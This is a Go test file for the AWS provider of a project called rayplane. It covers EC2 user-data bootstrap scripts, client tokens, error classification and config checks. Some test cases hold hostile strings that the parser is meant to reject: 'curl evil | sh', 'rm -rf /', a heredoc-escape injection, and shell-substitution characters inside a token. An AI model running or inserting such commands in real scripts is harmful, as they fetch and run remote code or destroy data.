package aws

import (
	"context"
	"errors"
	"fmt"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	awssdk "github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/smithy-go"
	smithyhttp "github.com/aws/smithy-go/transport/http"

	"github.com/rayplane/rayplane/internal/api"
	"github.com/rayplane/rayplane/internal/cloud"
)

const testBootstrap = `{"control_plane_url":"https://cp.example:8443","bootstrap_token":"rpb_secret'$(x)` + "`id`" + `\"","ca_cert_pem":"-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n"}`

func TestUserDataRoundTrip(t *testing.T) {
	script := UserData([]byte(testBootstrap))
	if !strings.HasPrefix(script, "#!/bin/sh\n") || !strings.Contains(script, "umask 077\n") ||
		!strings.Contains(script, "\nrayplaned agent --bootstrap "+BootstrapPath+"\n") || strings.Contains(script, "exec ") ||
		!strings.HasSuffix(script, "\npoweroff || shutdown -h now\n") {
		t.Fatalf("script:\n%s", script)
	}
	got, err := ParseUserData(script)
	if err != nil || string(got) != testBootstrap {
		t.Fatalf("ParseUserData = %q, %v; want %q", got, err, testBootstrap)
	}
	// Indented JSON is written compact: one line the heredoc cannot end on.
	indented := "{\n  \"bootstrap_token\": \"t\"\n}"
	if got, err := ParseUserData(UserData([]byte(indented))); err != nil || string(got) != `{"bootstrap_token":"t"}` {
		t.Fatalf("indented payload: %q, %v", got, err)
	}
}

// TestUserDataShellWritesPayloadVerbatim runs the script's heredoc with a
// real shell: quotes, $( ), backquotes and backslashes of the payload
// reach the file as they are, and the file is 0600.
func TestUserDataShellWritesPayloadVerbatim(t *testing.T) {
	sh, err := exec.LookPath("sh")
	if err != nil {
		t.Fatalf("no sh: %v", err)
	}
	dir := t.TempDir()
	out := filepath.Join(dir, "bootstrap.json")
	script := UserData([]byte(testBootstrap))
	script = strings.ReplaceAll(script, "mkdir -p /var/lib/rayplane\n", "")
	script = strings.ReplaceAll(script, "cat > "+BootstrapPath, "cat > "+out)
	script = script[:strings.Index(script, heredocEnd+"\n")+len(heredocEnd)+1] // the rest runs the agent
	cmd := exec.Command(sh, "-c", script)
	if b, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("sh: %v: %s", err, b)
	}
	b, err := os.ReadFile(out)
	if err != nil {
		t.Fatal(err)
	}
	if string(b) != testBootstrap+"\n" {
		t.Fatalf("file = %q, want %q", b, testBootstrap+"\n")
	}
	if fi, _ := os.Stat(out); fi.Mode().Perm() != 0o600 {
		t.Fatalf("mode %v, want 0600", fi.Mode().Perm())
	}
}

// TestUserDataPowersOffWhenTheAgentExits runs the whole script with a
// real shell, its paths moved to a temporary directory and rayplaned,
// poweroff and shutdown replaced by scripts that record their calls: the
// agent gets the payload, and when it exits (with an error, too) the
// instance powers off; a later boot powers off too.
func TestUserDataPowersOffWhenTheAgentExits(t *testing.T) {
	sh, err := exec.LookPath("sh")
	if err != nil {
		t.Fatalf("no sh: %v", err)
	}
	for _, status := range []int{0, 3} {
		dir := t.TempDir()
		bin, root, log := filepath.Join(dir, "bin"), filepath.Join(dir, "root"), filepath.Join(dir, "calls")
		for _, d := range []string{bin, filepath.Join(root, "var/lib/cloud")} {
			if err := os.MkdirAll(d, 0o755); err != nil {
				t.Fatal(err)
			}
		}
		fake := func(name, body string) {
			if err := os.WriteFile(filepath.Join(bin, name), []byte("#!/bin/sh\n"+body), 0o755); err != nil {
				t.Fatal(err)
			}
		}
		fake("rayplaned", fmt.Sprintf("echo \"rayplaned $*\" >> %s\ncat \"$3\" >> %s\nexit %d\n", log, log, status))
		fake("poweroff", fmt.Sprintf("echo poweroff >> %s\n", log))
		fake("shutdown", fmt.Sprintf("echo shutdown >> %s\n", log))

		script := UserData([]byte(`{"bootstrap_token":"t"}`))
		script = strings.ReplaceAll(script, "/var/lib/", root+"/var/lib/")
		cmd := exec.Command(sh, "-c", script)
		cmd.Env = append(os.Environ(), "PATH="+bin+":/usr/bin:/bin")
		if b, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("agent status %d: sh: %v: %s", status, err, b)
		} else if !strings.Contains(string(b), fmt.Sprintf("exited with status %d", status)) {
			t.Errorf("agent status %d: output %q does not say why it powers off", status, b)
		}
		calls, _ := os.ReadFile(log)
		want := "rayplaned agent --bootstrap " + root + BootstrapPath + "\n" + `{"bootstrap_token":"t"}` + "\npoweroff\n"
		if string(calls) != want {
			t.Fatalf("agent status %d: calls\n%s\nwant\n%s", status, calls, want)
		}

		// A later boot: cloud-init runs the per-boot script, which powers off.
		boot := exec.Command(filepath.Join(root, perBootDir, "rayplane-poweroff"))
		boot.Env = cmd.Env
		if b, err := boot.CombinedOutput(); err != nil {
			t.Fatalf("per-boot script: %v: %s", err, b)
		}
		if calls, _ := os.ReadFile(log); !strings.HasSuffix(string(calls), "poweroff\npoweroff\n") {
			t.Fatalf("a later boot did not power off: %s", calls)
		}
	}
}

func TestParseUserDataRefusesOtherScripts(t *testing.T) {
	good := UserData([]byte(`{"a":1}`))
	cases := map[string]string{
		"empty":              "",
		"not json":           UserData([]byte("not json")),
		"empty payload":      userDataPrefix + userDataSuffix,
		"extra command":      strings.Replace(good, "umask 077\n", "umask 077\ncurl evil | sh\n", 1),
		"trailing command":   good + "rm -rf /\n",
		"second line":        strings.Replace(good, `{"a":1}`, "{\"a\":1}\ntouch /x", 1),
		"ends heredoc early": strings.Replace(good, `{"a":1}`, "{\"a\":1}\n"+heredocEnd+"\nid\ncat <<'X'", 1),
		"not compact":        strings.Replace(good, `{"a":1}`, `{"a": 1}`, 1),
		"other binary":       strings.Replace(good, "\nrayplaned agent", "\nevil agent", 1),
		"no power off":       strings.TrimSuffix(good, "poweroff || shutdown -h now\n"),
		"crlf":               strings.ReplaceAll(good, "\n", "\r\n"),
	}
	for name, script := range cases {
		t.Run(name, func(t *testing.T) {
			if b, err := ParseUserData(script); err == nil {
				t.Fatalf("accepted, payload %q", b)
			}
		})
	}
}

func TestClientToken(t *testing.T) {
	long := strings.Repeat("ñ", 100)
	seen := map[string]bool{}
	for _, key := range []string{"node_1", long} {
		for i := range 8 {
			subnet := fmt.Sprintf("subnet-%017x", i)
			for _, m := range []string{api.MarketOnDemand, api.MarketSpot} {
				for attempt := range maxTokenAttempts {
					tok := clientToken(key, subnet, m, attempt)
					if len(tok) > 64 {
						t.Fatalf("token %q is %d long", tok, len(tok))
					}
					for _, r := range tok {
						if r > 126 || r < 33 {
							t.Fatalf("token %q is not printable ASCII", tok)
						}
					}
					if seen[tok] {
						t.Fatalf("token %q twice", tok)
					}
					seen[tok] = true
					if clientToken(key, subnet, m, attempt) != tok {
						t.Fatal("token is not deterministic")
					}
				}
			}
		}
	}
}

func TestSessionName(t *testing.T) {
	cases := []struct{ org, cloud, want string }{
		{"org_1", "cld_2", "rayplane-org_1-cld_2"},
		{"o/r g", "c:1", "rayplane-o-r-g-c-1"},
		{strings.Repeat("o", 40), strings.Repeat("c", 40), "rayplane-" + strings.Repeat("o", 40) + "-" + strings.Repeat("c", 14)},
	}
	for _, c := range cases {
		got := SessionName(c.org, c.cloud)
		if got != c.want || len(got) > 64 {
			t.Errorf("SessionName(%q, %q) = %q, want %q", c.org, c.cloud, got, c.want)
		}
	}
}

func TestKindOf(t *testing.T) {
	api := func(code string) error {
		return fmt.Errorf("operation error EC2: RunInstances: %w", &smithy.GenericAPIError{Code: code, Message: "m"})
	}
	status := func(code int) error {
		return &smithyhttp.ResponseError{Response: &smithyhttp.Response{Response: &http.Response{StatusCode: code}}, Err: errors.New("x")}
	}
	cases := []struct {
		err  error
		want cloud.Kind
	}{
		{api("InsufficientInstanceCapacity"), cloud.Capacity},
		{api("Unsupported"), cloud.Capacity},
		{api("SpotMaxPriceTooLow"), cloud.Capacity},
		{api("VcpuLimitExceeded"), cloud.Quota},
		{api("MaxSpotInstanceCountExceeded"), cloud.Quota},
		{api("UnauthorizedOperation"), cloud.Auth},
		// The first spot launch of an account whose caller may not let
		// EC2 create the Spot service-linked role.
		{api("AuthFailure.ServiceLinkedRoleCreationNotPermitted"), cloud.Auth},
		{api("AccessDenied"), cloud.Auth},
		{api("InvalidClientTokenId"), cloud.Auth},
		{api("ExpiredToken"), cloud.Auth},
		{api("RequestLimitExceeded"), cloud.Transient},
		{api("IdempotentParameterMismatch"), cloud.Transient},
		{api("InvalidAMIID.NotFound"), cloud.Invalid},
		{api("InvalidSubnetID.NotFound"), cloud.Invalid},
		{api("InvalidParameterValue"), cloud.Invalid},
		{api("InvalidInstanceType"), cloud.Invalid},
		{api("UnsupportedOperation"), cloud.Invalid},
		{api("SomethingNew"), cloud.Transient},
		{status(503), cloud.Transient},
		{status(403), cloud.Auth},
		{errors.New("dial tcp: connection refused"), cloud.Transient},
	}
	for _, c := range cases {
		if got := kindOf(c.err); got != c.want {
			t.Errorf("kindOf(%v) = %s, want %s", c.err, got, c.want)
		}
	}
}

func TestNewRefusesIncompleteClouds(t *testing.T) {
	good := Config{Region: "us-east-1", Cloud: api.AWSCloud{
		RoleARN: "arn:aws:iam::123456789012:role/rayplane", ExternalID: "ext",
		SubnetIDs: []string{"subnet-0123456789abcdef0"}, ImageID: "ami-0123456789abcdef0",
	}}
	if _, err := New(good); err != nil {
		t.Fatalf("New: %v", err)
	}
	for name, mut := range map[string]func(*Config){
		"role":        func(c *Config) { c.Cloud.RoleARN = "arn:aws:iam::123456789012:user/x" },
		"external id": func(c *Config) { c.Cloud.ExternalID = "" },
		"region":      func(c *Config) { c.Region = "" },
		"subnets":     func(c *Config) { c.Cloud.SubnetIDs = nil },
		"image":       func(c *Config) { c.Cloud.ImageID = "" },
	} {
		c := good
		mut(&c)
		if _, err := New(c); err == nil {
			t.Errorf("%s: New accepted %+v", name, c.Cloud)
		}
	}
}

func TestSafeLogMode(t *testing.T) {
	all := awssdk.LogSigning | awssdk.LogRetries | awssdk.LogRequest | awssdk.LogRequestWithBody |
		awssdk.LogResponse | awssdk.LogResponseWithBody | awssdk.LogDeprecatedUsage
	if got := safeLogMode(all); got != awssdk.LogRetries|awssdk.LogDeprecatedUsage {
		t.Fatalf("safeLogMode kept %b", got)
	}
}

func TestKeyLocks(t *testing.T) {
	var k keyLocks
	unlock, err := k.lock(context.Background(), "a")
	if err != nil {
		t.Fatal(err)
	}
	// Another key is free; the same key waits until the context ends.
	unlockB, err := k.lock(context.Background(), "b")
	if err != nil {
		t.Fatal(err)
	}
	unlockB()
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	if _, err := k.lock(ctx, "a"); !errors.Is(err, context.Canceled) {
		t.Fatalf("lock of a held key with an ended context = %v", err)
	}
	unlock()
	unlock2, err := k.lock(context.Background(), "a")
	if err != nil {
		t.Fatal(err)
	}
	unlock2()
	if n := len(k.locks); n != 0 {
		t.Fatalf("%d lock entries left", n)
	}
}
